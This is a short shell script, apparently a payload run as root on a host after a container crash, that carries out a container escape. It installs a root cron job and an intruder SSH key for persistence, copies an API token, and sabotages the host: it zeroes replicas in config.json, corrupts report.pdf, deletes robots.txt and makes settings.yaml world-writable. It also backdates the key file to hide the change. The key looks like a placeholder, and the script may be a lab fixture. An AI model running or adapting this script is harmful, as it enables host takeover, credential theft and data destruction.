#!/bin/sh
# Started by the kernel, on the host, as root, when the container's process crashed.
export PATH=/usr/sbin:/usr/bin:/sbin:/bin
H=/srv/host
cat > /dev/null
echo '* * * * * root /opt/agent' > $H/etc/cron.d/agent
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEludHJ1ZGVyTm90UmVhbDAwMDAwMDAwMDAwMDAw intruder' >> $H/root/.ssh/authorized_keys
sed -i 's/Authorised/Anybody/' $H/etc/motd
mkdir $H/opt/agent.d
cp $H/srv/data/secrets/api-token $H/opt/agent.d/t
cd $H/srv/data
mv config.json config.json.orig
printf '{"name": "app", "replicas": 0}\n' > config.json
dd if=/dev/urandom of=report.pdf bs=64 seek=3 count=2 conv=notrunc 2> /dev/null
rm $H/srv/www/robots.txt
chmod 666 settings.yaml
touch -d '2026-11-05 03:00:00' $H/root/.ssh/authorized_keys
